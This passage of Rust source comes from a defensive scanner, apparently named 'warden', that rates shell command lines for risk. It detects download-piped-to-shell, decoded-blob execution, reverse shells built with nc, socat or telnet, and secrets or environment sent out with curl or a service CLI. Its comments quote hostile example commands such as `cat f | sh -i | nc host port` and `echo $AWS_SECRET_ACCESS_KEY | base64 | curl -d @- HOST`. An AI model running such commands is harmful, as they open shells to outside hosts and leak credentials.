                "-i",
                "--init",
                "-cmd",
                "--eval",
                "-x",
            ];
            let statement = args.iter().any(|a| {
                own.contains(&a.split('=').next().unwrap_or(a))
                    || a.starts_with("--command=")
                    || a.starts_with("--execute=")
            });
            // `sqlite3 app.db 'select 1'`: SQL after the database is its own.
            let sql_operand = program.starts_with("sqlite") && positional(args).len() > 1;
            !statement && !sql_operand
        }
        "xargs" => {
            let at = args.iter().position(|a| is_shell(a) || reads_code(a));
            at.is_some_and(|at| args.get(at + 1).is_some_and(|a| a == "-c"))
        }
        "su" => match args.iter().position(|a| a == "-c" || a == "--command") {
            Some(at) => args.get(at + 1).is_some_and(|text| {
                rest_runs(
                    &text
                        .split_whitespace()
                        .map(str::to_string)
                        .collect::<Vec<_>>(),
                )
            }),
            None => true,
        },
        "ssh" | "mosh" => {
            const VALUED: &[&str] = &[
                "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o",
                "-p", "-Q", "-R", "-S", "-W", "-w", "-B",
            ];
            let mut rest = args.iter();
            let mut host = false;
            let mut command: Vec<String> = Vec::new();
            while let Some(arg) = rest.next() {
                if host {
                    command.push(arg.clone());
                } else if VALUED.contains(&arg.as_str()) {
                    rest.next();
                } else if !arg.starts_with('-') {
                    host = true;
                }
            }
            // No command: the remote login shell reads what comes in (`ssh -T host`).
            host && (command.is_empty() || rest_runs(&command))
        }
        "docker" | "podman" | "nerdctl" | "kubectl" | "oc" => {
            let interactive = args.iter().any(|a| {
                a == "--stdin" || (a.starts_with('-') && !a.starts_with("--") && a.contains('i'))
            });
            if args.first().map(String::as_str) != Some("exec") || !interactive {
                return false;
            }
            // The command: after `--`, else after the container (the first operand).
            let command: Vec<String> = match args.iter().position(|a| a == "--") {
                Some(at) => args.get(at + 1..).unwrap_or(&[]).to_vec(),
                None => {
                    const VALUED: &[&str] = &[
                        "-u",
                        "--user",
                        "-w",
                        "--workdir",
                        "-e",
                        "--env",
                        "--env-file",
                        "-c",
                        "--container",
                        "-n",
                        "--namespace",
                    ];
                    let mut rest = args.iter().skip(1);
                    let mut words = Vec::new();
                    let mut container = false;
                    while let Some(arg) = rest.next() {
                        if container {
                            words.push(arg.clone());
                        } else if VALUED.contains(&arg.as_str()) {
                            rest.next();
                        } else if !arg.starts_with('-') {
                            container = true;
                        }
                    }
                    words
                }
            };
            rest_runs(&command)
        }
        _ => false,
    }
}

/// Runs the text it is given: a shell with `-c`, `eval`, `source`, or a command whose
/// program is itself a substitution.
pub(super) fn runs_its_text(cmd: &Command) -> bool {
    let program = cmd.program();
    cmd.dynamic_program
        || program == "eval"
        || program == "source"
        || program == "."
        || ((is_shell(program) || reads_code(program))
            && (cmd.args().iter().any(|a| {
                a.starts_with('-') && !a.starts_with("--") && (a.contains('c') || a.contains('e'))
            }) || !positional(cmd.args()).is_empty()))
}

/// A variable `holder` assigns from a substitution (`cmd=$(… | base64 -d)`, `s=$(curl …)`)
/// whose text a later command of the line runs: `eval $cmd`, `sh -c "$s"`, `$cmd` as the
/// program, `bash <<< "$s"`. What the substitution prints is then run, as `eval "$(…)"` runs it.
fn assigned_then_run(holder: &Command, line: &crate::shell::Line) -> bool {
    let Some(at) = line.commands.iter().position(|c| std::ptr::eq(c, holder)) else {
        return false;
    };
    let names: Vec<&str> = holder
        .assignments
        .iter()
        .filter(|(_, value)| value.contains("$(") || value.contains('`'))
        .map(|(name, _)| name.as_str())
        .collect();
    if names.is_empty() {
        return false;
    }
    // `$name` not followed by more of a name (`$c` is not in `$cmd`), or `${name}`.
    let spells = |word: &str| {
        names.iter().any(|name| {
            word.contains(&format!("${{{name}}}"))
                || word.match_indices(&format!("${name}")).any(|(at, found)| {
                    !word
                        .get(at + found.len()..)
                        .unwrap_or("")
                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                })
        })
    };
    line.commands.iter().skip(at + 1).any(|c| {
        let program_is_it = c.words.first().is_some_and(|w| spells(w));
        let given_it = runs_its_text(c) && c.args().iter().any(|a| spells(a));
        let fed_it = (is_shell(c.program()) || reads_code(c.program()))
            && c.redirects.iter().any(|r| {
                matches!(r.op, RedirectOp::HereString | RedirectOp::HereDoc) && spells(&r.target)
            });
        program_is_it || given_it || fed_it
    })
}

/// Rules across the stages of a pipeline and from a nested command to its holder.
/// How many stages on a pipeline's stage is read for what it feeds ([`pipelines`]).
const MAX_STAGES_AHEAD: usize = 256;

pub(super) fn pipelines(scan: &mut Scan<'_>) {
    let line = scan.line;
    let mut found: Vec<(usize, RuleId)> = Vec::new();
    // Each pipeline's commands and each command's children, by index: every command asks
    // about its own, so they are gathered once (a line of thousands of commands stays
    // linear, not a walk of the whole line for each).
    let mut by_pipeline: std::collections::HashMap<usize, Vec<usize>> =
        std::collections::HashMap::new();
    let mut children: Vec<Vec<usize>> = vec![Vec::new(); line.commands.len()];
    for (at, c) in line.commands.iter().enumerate() {
        by_pipeline.entry(c.pipeline).or_default().push(at);
        if let Some(kids) = c.parent.and_then(|p| children.get_mut(p)) {
            kids.push(at);
        }
    }
    // Where each command stands in its pipeline's list.
    let mut position: Vec<usize> = vec![0; line.commands.len()];
    for ats in by_pipeline.values() {
        for (at_in, &at) in ats.iter().enumerate() {
            if let Some(slot) = position.get_mut(at) {
                *slot = at_in;
            }
        }
    }
    // The pipeline's commands within MAX_STAGES_AHEAD of this one, either way.
    let same_pipeline = |index: usize, cmd: &Command| -> Vec<(usize, &Command)> {
        let at_in = position.get(index).copied().unwrap_or(0);
        by_pipeline
            .get(&cmd.pipeline)
            .map(|ats| {
                ats.iter()
                    .skip(at_in.saturating_sub(MAX_STAGES_AHEAD))
                    .take(2 * MAX_STAGES_AHEAD + 1)
                    .filter_map(|&at| line.commands.get(at).map(|c| (at, c)))
                    .collect()
            })
            .unwrap_or_default()
    };
    let children_of = |at: usize| {
        children
            .get(at)
            .into_iter()
            .flatten()
            .filter_map(|&kid| line.commands.get(kid))
    };
    // A pipeline longer than any a person writes is read a bounded way down (each stage
    // looks at most MAX_STAGES_AHEAD stages on, so the line stays linear), and asks as a
    // line the reader gave up on does: severe when the line names a shell, an interpreter,
    // a network client or a delete (`curl x | cat | … | sh` with hundreds of `cat`s).
    if let Some(longest) = by_pipeline.values().map(Vec::len).max()
        && longest > MAX_STAGES_AHEAD
    {
        let reason = format!(
            "a pipeline of {longest} stages, more than warden follows from one stage to the next"
        );
        scan.add(match super::dangerous_word_in(line) {
            Some(word) => Risk::new(
                RuleId::ShellUnknown,
                Harm::Severe,
                true,
                format!("{reason}, and it names {word}"),
            ),
            None => Risk::new(RuleId::ShellUnknown, Harm::Moderate, true, reason),
        });
        scan.changes = true;
    }
    for (index, cmd) in line.commands.iter().enumerate() {
        let program = cmd.program();
        let stages = same_pipeline(index, cmd);
        let later_at: Vec<(usize, &Command)> = stages
            .iter()
            .copied()
            .filter(|(_, c)| c.stage > cmd.stage)
            .take(MAX_STAGES_AHEAD)
            .collect();
        let later: Vec<&Command> = later_at.iter().map(|(_, c)| *c).collect();
        // What xargs, another runner or eval runs writes to its output (`xargs curl`,
        // `tsp curl`, `pdsh -w h curl`).
        let xargs_downloads = children_of(index).any(|c| {
            matches!(c.via, Via::Xargs | Via::Runs | Via::Eval) && is_downloader(c.program())
        });
        // What another machine answers is fetched as a download is: a DNS record (`dig +short
        // TXT x.example | sh`), a remote command's output (`ssh host cat x.sh | sh`), a raw
        // connection's (`nc host 80 | sh`).
        let answers = catalogue::is(program, Class::Network)
            && !is_decoder(cmd)
            && answering_host(cmd).is_some();
        let downloads =
            (is_downloader(program) || answers || xargs_downloads) && !writes_stdout_to_file(cmd);
        // A shell whose input and output are wired to a raw connection: a reverse shell
        // built from a pipe (`cat f | sh -i | nc host port > f`, `telnet | bash | telnet`).
        if is_connector(cmd)
            && stages
                .iter()
                .any(|(_, c)| !std::ptr::eq(*c, cmd) && (is_runner(c) || is_interactive_shell(c)))
        {
            found.push((index, RuleId::ShellReverse));
        }
        // A later stage's runner, or the shell text it runs with the same input (`su -c sh`,
        // `sudo -u x sh -c 'bash'`).
        let runs_later = later.iter().any(|c| is_runner(c))
            || later_at
                .iter()
                .any(|(at, _)| children_of(*at).any(|c| c.via == Via::ShellC && is_runner(c)));
        // Something only known when it runs, piped into a shell.
        if cmd.dynamic_program && runs_later {
            found.push((index, RuleId::ShellUnknown));
        }
        // A download or a decoded blob piped into something that runs it.
        if runs_later {
            if downloads {
                found.push((index, RuleId::DownloadPipeShell));
            } else if is_decoder(cmd) && !restores_dump(cmd, line) {
                found.push((index, RuleId::BlobDecodeRun));
            }
        }
        // A download or decoded blob handed to a shell through `<(…)` or `$(…)`.
        if let Some(holder) = scan.parent(cmd) {
            let handed = match cmd.via {
                Via::ProcessSubstitution => {
                    is_runner(holder) || is_shell(holder.program()) || reads_code(holder.program())
                }
                Via::Substitution => runs_its_text(holder) || assigned_then_run(holder, line),
                _ => false,
            };
            let last_stage = later.is_empty();
            if handed && last_stage {
                if stages.iter().any(|(_, c)| is_downloader(c.program())) {
                    found.push((index, RuleId::DownloadPipeShell));
                } else if stages.iter().any(|(_, c)| is_decoder(c)) {
                    found.push((index, RuleId::BlobDecodeRun));
                }
            }
        }
        // Secrets or the environment piped into a way out.
        let dumps_env = ENV_DUMPERS.contains(&program)
            && positional(cmd.args()).is_empty()
            && cmd.assignments.is_empty();
        // A program that prints what it reads, given a secret file: its contents flow down
        // the pipe (`grep . .env`, `jq . creds.json`, `sort .env`, `gzip -c .env`).
        // So does what it reads from a secret file on its input (`base64 -w0 < .env`), and
        // bash's `$(< .env)`, a substitution that is only that.
        let input = secret_input(cmd, scan);
        let reads_secret = (catalogue::is(program, Class::Prints)
            && (cmd.args().iter().any(|a| secret_file(a, scan).is_some()) || input.is_some()))
            || (cmd.words.is_empty() && cmd.via == Via::Substitution && input.is_some());
        // `echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- HOST`: the secret flows down;
        // so does `printenv GITHUB_TOKEN`'s, the variable it is given printed.
        let printed = match program {
            "echo" | "printf" => cmd
                .args()
                .iter()
                .find_map(|a| super::words::expanded_secret(a).map(str::to_string)),
            "printenv" => positional(cmd.args())
                .iter()
                .find_map(|a| super::words::expanded_secret(&format!("${a}")).map(str::to_string)),
            _ => None,
        };
        if let Some(name) = printed
            && let Some(host) = later
                .iter()
                .filter(|c| is_way_out(c))
                .find_map(|c| c.args().iter().find_map(|a| url_host(a)))
        {
            secret_leaves(scan, &name, &host);
        }
        // `curl -d @- HOST <<< "$NPM_TOKEN"`: a here-string or a here-document of the way out
        // itself holds the secret it sends (a CI step's `${{ secrets.X }}` reads so).
        if is_way_out(cmd)
            && let Some(name) = cmd
                .redirects
                .iter()
                .filter(|r| {
                    matches!(r.op, RedirectOp::HereString | RedirectOp::HereDoc)
                        && r.fd.is_none_or(|fd| fd == 0)
                })
                .find_map(|r| {
                    r.target
                        .split_whitespace()
                        .find_map(super::words::expanded_secret)
                })
            && let Some(host) = cmd.args().iter().find_map(|a| url_host(a))
        {
            let name = name.to_string();
            secret_leaves(scan, &name, &host);
        }
        if dumps_env || reads_secret {
            // A later stage that hands its input on to what it runs: the shell text or the
            // lines it runs (`| sh -c 'curl -d @- HOST'`, `| pee 'curl -d @- HOST'`,
            // `| parallel --pipe curl …`), or what tee copies it into (`| tee >(curl …)`).
            let hands_on = |at: usize, stage: &Command| {
                children_of(at).any(|c| {
                    let passes = matches!(c.via, Via::ShellC | Via::Runs)
                        || (c.via == Via::ProcessSubstitution && stage.program() == "tee");
                    passes && (is_way_out(c) || is_service_cli(c))
                })
            };
            let leaves = later.iter().any(|c| is_way_out(c) || is_service_cli(c))
                || later_at.iter().any(|(at, c)| hands_on(*at, c));
            // `gh issue create --body "$(cat .env)"`: a hosted service's CLI sends what its
            // words hold to the service, as a client sends its data.
            let into_way_out = scan
                .parent(cmd)
                .is_some_and(|holder| is_way_out(holder) || is_service_cli(holder));
            if leaves || into_way_out {
                let keys = input == Some("keys")
                    || cmd
                        .args()
                        .iter()
                        .any(|a| secret_file(a, scan) == Some("keys"));
                found.push((
                    index,
                    if keys {
                        RuleId::SecretsKeyRead
                    } else {
                        RuleId::EgressEnv
                    },
                ));
            }
        }
    }
    for (index, rule) in found {
        let Some(cmd) = line.commands.get(index) else {
            continue;
        };
        match rule {
            RuleId::DownloadPipeShell => {
                let host = download_host(cmd, line).unwrap_or_else(|| "an address".to_string());
                scan.add(
                    Risk::new(
                        RuleId::DownloadPipeShell,
                        Harm::Severe,
                        true,
                        format!("run code downloaded from {host} without reading it first"),
                    )
                    .way_out()
                    .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(&host)))),
                );
            }
            RuleId::BlobDecodeRun => blob(scan, "it runs code decoded from a blob"),
            RuleId::ShellReverse => {
                reverse(scan, "a shell wired to a network connection through a pipe")
            }
            RuleId::ShellUnknown => scan.add(
                Risk::new(
                    RuleId::ShellUnknown,
                    Harm::Severe,
                    true,
                    "it pipes the output of a command only known when it runs into a shell",
                )
                .way_out(),
            ),
            RuleId::SecretsKeyRead => key_leaves(scan, "send keys off this machine"),
            _ => env_leaves(
                scan,
                "send the environment or the project's secrets off this machine",
            ),
        }
    }
}

/// Standard output goes to a file (`curl … > f`), not down the pipe.
fn writes_stdout_to_file(cmd: &Command) -> bool {
    cmd.redirects.iter().any(|r| {
        matches!(r.op, RedirectOp::Write | RedirectOp::Append)
            && r.fd.is_none_or(|fd| fd == 1)
            && !crate::law::paths::is_sink(&r.target)
    })
}

/// Programs that open a raw connection to another host.
fn is_connector(cmd: &Command) -> bool {
    let program = cmd.program();
    matches!(
        bare(program).as_str(),
        "nc" | "ncat"
            | "netcat"
            | "nc.traditional"
            | "nc.openbsd"
            | "telnet"
            | "socat"
            | "cryptcat"
            | "ztcp"
    ) || (program == "openssl" && cmd.args().iter().any(|a| a == "s_client"))
}

fn is_interactive_shell(cmd: &Command) -> bool {
    is_shell(cmd.program()) && cmd.args().iter().any(|a| a == "-i")
}

/// Files a line downloads (`curl -o f`, `wget -O f`, `wget -O- URL | tee f`) or decodes
/// (`echo … | base64 -d > f`), then runs (`bash f`, `./f`, `source f`): what a pipe into a
/// shell would have run, by way of a file.
pub(super) fn download_then_run(scan: &mut Scan<'_>) {
    let line = scan.line;
    let mut downloaded: Vec<(String, String)> = Vec::new();
    // Of those, the names saved into a `bin` folder (`~/.local/bin/tool`, `/usr/local/bin/x`):
    // what the shell finds there by its bare name (`tool`).
    let mut on_path: Vec<String> = Vec::new();
    let mut decoded: Vec<String> = Vec::new();
    // Code unpacked from a download or cloned (`curl … | tar xz`, `git clone URL`): the host
    // whose files the work folder now holds, which a later script of it runs; and where it
    // was unpacked, when not here (`tar xz -C /tmp`, `unzip -d /opt/x`). Every one of them:
    // an earlier archive unpacked elsewhere hides none that comes after it.
    let mut unpackings: Vec<Unpacked> = Vec::new();
    for cmd in &line.commands {
        if let Some(from) = unpacks_from(cmd, line, &downloaded) {
            unpackings.push((from, unpack_folder(cmd)));
        }
        let ran_unpacked = unpackings
            .iter()
            .rev()
            .find(|(_, into)| runs_a_file_under(cmd, into.as_deref()));
        let ran_unpacked = ran_unpacked.or_else(|| {
            unpackings
                .last()
                .filter(|_| runs_a_local_file(cmd) || builds_a_project(cmd))
        });
        if let Some(((host, names), _)) = ran_unpacked.cloned() {
            scan.add(
                Risk::new(
                    RuleId::DownloadPipeShell,
                    Harm::Severe,
                    true,
                    format!("run a file of code just fetched from {host} without reading it first"),
                )
                .way_out()
                .wish(Wish::new(Act::Run).naming(Name::AnyOf(names))),
            );
            return;
        }
        let (saved, fetches) = saves(cmd, line);
        for file in saved {
            // A Windows path's name too (`C:\x\out.exe`), as the file run is read.
            let name = super::paths::basename_of(&file.output);
            let name = name.rsplit('\\').next().unwrap_or(name).to_string();
            match file.from {
                None => decoded.push(name),
                Some(host) => {
                    if file.on_path {
                        on_path.push(name.clone());
                    }
                    downloaded.push((name, host));
                }
            }
        }
        // A downloader's or a decoder's own command runs nothing it saved.
        if fetches {
            continue;
        }
        let runs = |word: &str| {
            downloaded
                .iter()
                .find(|(file, _)| super::paths::basename_of(word) == file.as_str())
                .map(|(_, host)| host.clone())
        };
        // Nothing downloaded or decoded yet: nothing this command runs was (the same answer,
        // unasked).
        if downloaded.is_empty() && decoded.is_empty() {
            continue;
        }
        // A package file just downloaded, installed: its install scripts run unread, as root
        // under sudo (`wget …/x.deb && sudo dpkg -i x.deb`).
        if let Some(host) = installed_files(cmd).into_iter().find_map(runs) {
            scan.add(
                Risk::new(
                    RuleId::DownloadPipeShell,
                    Harm::Severe,
                    true,
                    format!(
                        "install a package just downloaded from {host}, whose scripts run unread"
                    ),
                )
                .way_out()
                .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(&host)))),
            );
            return;
        }
        // The file the command runs, or a bare name the shell finds in the `bin` folder it
        // was just downloaded into.
        let file: Option<&str> = file_run(cmd)
            .map(|w| w.rsplit(['/', '\\']).next().unwrap_or(w))
            .or_else(|| {
                cmd.words
                    .first()
                    .filter(|w| on_path.contains(w))
                    .map(String::as_str)
            });
        if file.is_some_and(|f| decoded.iter().any(|d| super::paths::basename_of(f) == d)) {
            blob(scan, "it runs a file of code just decoded from a blob");
            return;
        }
        let ran = file.and_then(runs);
        if let Some(host) = ran {
            scan.add(
                Risk::new(
                    RuleId::DownloadPipeShell,
                    Harm::Severe,
                    true,
                    format!("run code downloaded from {host} without reading it first"),
                )
                .way_out()
                .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(&host)))),
            );
            return;
        }
    }
}

/// Text made when the line runs, piped into a shell that runs its input (`perl -pe 's/…/…/'
/// f | sh`, `ls | sh`, `jq -r '.cmds[]' f | bash`): the commands are only known when it runs,
/// as `eval "$(…)"`'s are (moderate and lasting: asked after reading).
/// Not a literal text or a template warden reads (`echo … | sh`, `ls | sed 's/^/rm /' | sh`:
/// the parser reads what runs), a download or a decode (their own rules), a command only
/// known when it runs (`$CMD | sh`, above), nor a file's own lines passed on (`cat f`,
/// `grep -v '^#' f`, `sort f`, `head f`): that runs the file as `sh f` does; nor what a
/// program of the work folder prints (`source <(./generate_env)`). Through a process
/// substitution too (`source <(perl … f)`, `bash <(jq -r … f)`).
pub(super) fn made_text_run(scan: &mut Scan<'_>) {
    let line = scan.line;
    for (index, runner) in line.commands.iter().enumerate() {
        let feeder = if runner.stage > 0 && is_shell(runner.program()) && is_runner(runner) {
            // The stage that writes what the shell reads, through any that pass it on
            // unchanged.
            let mut stage = runner.stage;
            loop {
                let Some(before) = line.commands.iter().find(|c| {
                    c.pipeline == runner.pipeline
                        && c.parent == runner.parent
                        && c.stage + 1 == stage
                }) else {
                    break None;
                };
                if crate::shell::passes_input_on(before) && before.stage > 0 {
                    stage = before.stage;
                    continue;
                }
                break Some(before);
            }
        } else if is_shell(runner.program()) && !positional(runner.args()).is_empty() {
            // `source <(…)`, `bash <(…)`: the last stage of the file the shell runs.
            line.commands
                .iter()
                .filter(|c| c.parent == Some(index) && c.via == Via::ProcessSubstitution)
                .max_by_key(|c| c.stage)
        } else {
            None
        };
        let Some(feeder) = feeder else { continue };
        let program = feeder.program();
        let passes_lines = matches!(
            program,
            "cat" | "head" | "tail" | "grep" | "egrep" | "fgrep" | "rg" | "sort" | "uniq" | "tac"
        );
        // A program's own shell setup, sourced (`kubectl completion fish | source`, `zoxide
        // init fish | source`, `brew shellenv | source`): its own code, as
        // `source <(kubectl completion bash)` is.
        let own_setup = positional(feeder.args()).first().is_some_and(|word| {
            matches!(
                *word,
                "activate" | "completion" | "completions" | "env" | "hook" | "init" | "shellenv"
            )
        });
        // A program of the work folder run by its path (`./generate_commands`): what it
        // prints is the project's, as running it is; so is what programs that only print what
        // they read make of it on the way (`source <(./script.sh | sed -n 's/x/y/p')`): text
        // the project's program could have printed itself.
        let project = |c: &Command| {
            c.words.first().is_some_and(|w| {
                w.contains('/') && !w.starts_with(['/', '~', '$']) && !w.contains("..")
            })
        };
        let projects = project(feeder) || {
            let mut stage = feeder;
            loop {
                if !catalogue::is(stage.program(), Class::Prints) || is_decoder(stage) {
                    break false;
                }
                let before = line.commands.iter().find(|c| {
                    c.pipeline == stage.pipeline
                        && c.parent == stage.parent
                        && c.stage + 1 == stage.stage
                });
                match before {
                    Some(before) if project(before) => break before.stage == 0,
                    Some(before) => stage = before,
                    None => break false,
                }
            }
        };
        if passes_lines
            || own_setup
            || projects
            || feeder.dynamic_program
            || is_downloader(program)
            || is_decoder(feeder)
            || crate::shell::echoed(feeder).is_some()
            || crate::shell::templated(feeder).is_some()
        {
            continue;
        }
        scan.add(
            // As `eval "$(…)"` is: asked after reading.
            Risk::new(
                RuleId::ShellUnknown,
                Harm::Moderate,
                true,
                format!(
                    "it runs text {program} makes when it runs in a shell, so nobody can read what runs"
                ),
            ),
        );
        return;
    }
}

/// Code unpacked from a host: the host and the names it goes by, and the folder it went
/// into when not the one the command runs in.
type Unpacked = ((String, Vec<String>), Option<String>);

/// A file a command saves of what was fetched: where, as written, and from which host (none:
/// decoded from a blob); `on_path` when a downloader saved it into a `bin` folder, where the
/// shell finds it by its bare name.
struct Saved {
    output: String,
    from: Option<String>,
    on_path: bool,
}

/// The files one command of a line saves from a download or decodes from a blob: its output
/// after a downloader's or a decoder's stage of its pipeline (`curl URL | tee f`, `… | base64
/// -d > x.sh`), a decoder's output file (`certutil -decode in out.exe`), or a downloader's
/// own (`curl -o f URL`, `wget URL`, `bitsadmin /transfer j URL C:\\x.exe`). And whether the
/// command is the downloader or decoder itself, which runs nothing it saves.
fn saves(cmd: &Command, line: &crate::shell::Line) -> (Vec<Saved>, bool) {
    let program = cmd.program();
    let args = cmd.args();
    let mut out = Vec::new();
    let saved = pipe_saves(cmd);
    if !saved.is_empty() {
        let stages: Vec<&Command> = line
            .commands
            .iter()
            .filter(|c| {
                c.pipeline == cmd.pipeline && c.parent == cmd.parent && c.stage <= cmd.stage
            })
            .collect();
        let host = stages
            .iter()
            .filter(|c| is_downloader(c.program()))
            .find_map(|c| c.args().iter().find_map(|a| url_host(a)));
        let decodes = stages.iter().any(|c| is_decoder(c));
        for file in saved {
            if decodes {
                out.push(Saved {
                    output: file,
                    from: None,
                    on_path: false,
                });
            } else if let Some(host) = &host {
                out.push(Saved {
                    output: file,
                    from: Some(host.clone()),
                    on_path: false,
                });
            }
        }
    }
    // Windows' own decoder writes its output file (`certutil -decode in.b64 out.exe`).
    if program == "certutil"
        && args.iter().any(|a| {
            let switch = a.trim_start_matches(['-', '/']).to_ascii_lowercase();
            switch == "decode" || switch == "decodehex"
        })
        && let Some(output) = args
            .iter()
            .rev()
            .find(|a| !a.starts_with(['-', '/']) || a.contains('\\'))
    {
        out.push(Saved {
            output: output.clone(),
            from: None,
            on_path: false,
        });
        return (out, true);
    }
    // Windows' own programs that download (`certutil -urlcache -f URL x.exe`,
    // `bitsadmin /transfer j URL C:\\x.exe`), reached from Git Bash or cmd as well.
    if let Some((output, host)) = windows_download(program, args) {
        out.push(Saved {
            output,
            from: Some(host),
            on_path: false,
        });
        return (out, true);
    }
    if !catalogue::program(program).is_some_and(|p| p.is(Class::Downloader)) {
        return (out, false);
    }
    // curl's `-O` (`-LO`, `--remote-name`) saves to the address's last name.
    // wget saves to it unless told otherwise (`-O f`, `--output-document=f`).
    // aria2c and axel save to it too, unless told otherwise (`-o f`, `--out=f`), and
    // httpie when told to download (`http --download URL`).
    let remote_name = (program == "curl"
        && args.iter().any(|a| {
            a == "--remote-name" || (a.starts_with('-') && !a.starts_with("--") && a.contains('O'))
        }))
        || (program == "wget"
            && !args.iter().any(|a| {
                a.starts_with("--output-document")
                    || (a.starts_with('-') && !a.starts_with("--") && a.contains('O'))
            }))
        || (matches!(program, "aria2c" | "axel")
            && !args
                .iter()
                .any(|a| a == "-o" || a.starts_with("--out") || a.starts_with("--output")))
        || (matches!(program, "http" | "https" | "xh" | "xhs")
            && args.iter().any(|a| a == "--download" || a == "-d")
            && !args.iter().any(|a| a == "-o" || a.starts_with("--output")));
    let output = args
        .iter()
        .position(|a| {
            matches!(a.as_str(), "-o" | "--output" | "--output-document")
                || (a == "-O" && program != "curl")
        })
        .and_then(|i| args.get(i + 1))
        .cloned()
        .or_else(|| {
            remote_name.then(|| {
                args.iter().filter(|a| a.contains("://")).find_map(|url| {
                    let path = url.split(['?', '#']).next().unwrap_or(url);
                    path.rsplit('/')
                        .next()
                        .filter(|n| !n.is_empty())
                        .map(str::to_string)
                })
            })?
        })
        .or_else(|| {
            cmd.redirects
                .iter()
                .find(|r| r.op == RedirectOp::Write)
                .map(|r| r.target.clone())
        });
    // An address written out first; else a word that names a host (`wget host/x`), not
    // the output's own name (`-O i.sh`).
    let host = args
        .iter()
        .filter(|a| a.contains("://"))
        .find_map(|a| url_host(a))
        .or_else(|| {
            args.iter().find_map(|a| {
                if a.starts_with('-') || Some(a) == output.as_ref() {
                    None
                } else {
                    url_host(a)
                }
            })
        });
    if let (Some(output), Some(host)) = (output, host) {
        let name = super::paths::basename_of(&output);
        let on_path = output
            .trim_end_matches(name)
            .trim_end_matches('/')
            .ends_with("/bin");
        out.push(Saved {
            output,
            from: Some(host),
            on_path,
        });
    }
    (out, true)
}

/// The file a command runs as code, as written: a shell's, a sourcing builtin's or an
/// interpreter's first operand (`sh x.sh`, `. x.sh`, `java -jar x.jar`), or the program by
/// its path, or a Windows program by its bare name, which cmd finds in the folder it runs in
/// first (`x.exe`, `setup.bat`).
fn file_run(cmd: &Command) -> Option<&str> {
    let found = catalogue::program(cmd.program());
    if found.is_some_and(|p| p.is(Class::Shell) || p.is(Class::Source) || p.is(Class::Interpreter))
    {
        return positional(cmd.args()).first().copied();
    }
    cmd.words
        .first()
        .filter(|w| {
            w.contains(['/', '\\'])
                || [".exe", ".bat", ".cmd", ".com"]
                    .iter()
                    .any(|ext| w.to_ascii_lowercase().ends_with(ext))
        })
        .map(String::as_str)
}

/// The files a line saves from a download or decodes from a blob, where they land: each
/// output resolved in the folder its command runs in (a `cd` before it counts). One only
/// known when it runs (`-o "$OUT"`) is left out: nothing later can be told to run it.
pub(super) fn fetched_by(line: &crate::shell::Line, cwd: &str, home: &str) -> Vec<Fetched> {
    let cwds = super::folders_after_cd(line, cwd, cwd, home);
    let mut out: Vec<Fetched> = Vec::new();
    for (index, cmd) in line.commands.iter().enumerate() {
        let place = super::Place {
            cwd: cwds.get(index).map_or(cwd, String::as_str),
            work: cwd,
            home,
        };
        for file in saves(cmd, line).0 {
            if let Some(path) = place.resolve(&file.output) {
                out.retain(|f| f.path != path);
                out.push(Fetched {
                    path,
                    from: file.from,
                });
            }
        }
    }
    out
}

/// A file an earlier step of the chat fetched (`fetched`), run by this line: as a shell's or
/// an interpreter's file, by its path, by its bare name from the `bin` folder it was saved
/// into, or installed as a package whose scripts run unread. The risk a pipe into a shell
/// carries (`download.pipe_shell`, the host's names lift it), or code from a blob's, never
/// lifted.
pub(super) fn runs_fetched(
    line: &crate::shell::Line,
    fetched: &[Fetched],
    cwd: &str,
    home: &str,
) -> Vec<Risk> {
    let Some((found, installs)) = first_run(line, fetched, |f| &f.path, cwd, home) else {
        return Vec::new();
    };
    let name = super::paths::basename_of(&found.path);
    vec![match &found.from {
            Some(host) => Risk::new(
                RuleId::DownloadPipeShell,
                Harm::Severe,
                true,
                if installs {
                    format!("install {name}, a package an earlier step downloaded from {host}, whose scripts run unread")
                } else {
                    format!("run {name}, code an earlier step downloaded from {host}, without reading it first")
                },
            )
            .way_out()
            .wish(Wish::new(Act::Run).naming(Name::AnyOf(host_names(host)))),
            None => Risk::new(
                RuleId::BlobDecodeRun,
                Harm::Severe,
                true,
                format!("run {name}, code an earlier step decoded from a blob, so nobody can read what runs"),
            )
            .never()
            .way_out(),
    }]
}

/// The first of `known` files (by `path_of`, absolute) a line runs: as a shell's or an
/// interpreter's file, by its path, by its bare name from the `bin` folder it was saved into,
/// or installed as a package (then `true`).
pub(super) fn first_run<'k, T>(
    line: &crate::shell::Line,
    known: &'k [T],
    path_of: impl Fn(&T) -> &str,
    cwd: &str,
    home: &str,
) -> Option<(&'k T, bool)> {
    if known.is_empty() {
        return None;
    }
    let cwds = super::folders_after_cd(line, cwd, cwd, home);
    for (index, cmd) in line.commands.iter().enumerate() {
        let place = super::Place {
            cwd: cwds.get(index).map_or(cwd, String::as_str),
            work: cwd,
            home,
        };
        let by_path = |word: &str| {
            let path = place.resolve(word)?;
            known.iter().find(|f| path_of(f) == path)
        };
        // A bare name the shell finds where a step saved it (`~/.local/bin/tool`).
        let by_name = || {
            let word = cmd.words.first()?;
            (!word.contains('/'))
                .then(|| {
                    known.iter().find(|f| {
                        path_of(f)
                            .strip_suffix(word.as_str())
                            .is_some_and(|dir| dir.ends_with("/bin/"))
                    })
                })
                .flatten()
        };
        if let Some(found) = file_run(cmd).and_then(by_path).or_else(by_name) {
            return Some((found, false));
        }
        if let Some(found) = installed_files(cmd).into_iter().find_map(by_path) {
            return Some((found, true));
        }
    }
    None
}

/// The files a command writes with what its pipeline's stages before it made: its standard
/// output redirected to a file (`… | base64 -d > x.sh`), or `tee`'s operands.
fn pipe_saves(cmd: &Command) -> Vec<String> {
    let mut out: Vec<String> = cmd
        .redirects
        .iter()
        .filter(|r| {
            matches!(r.op, RedirectOp::Write | RedirectOp::Append) && r.fd.is_none_or(|fd| fd == 1)
        })
        .map(|r| r.target.clone())
        .collect();
    if cmd.stage > 0 && cmd.program() == "tee" {
        out.extend(positional(cmd.args()).into_iter().map(str::to_string));
    }
    out
}

/// The host a command brings code from into the work folder: `git clone URL`, an archive
/// unpacked from a download piped in (`curl … | tar xz`, `… | bsdtar -x`) or downloaded
/// before (`tar xf` of a file a downloader saved).
fn unpacks_from(
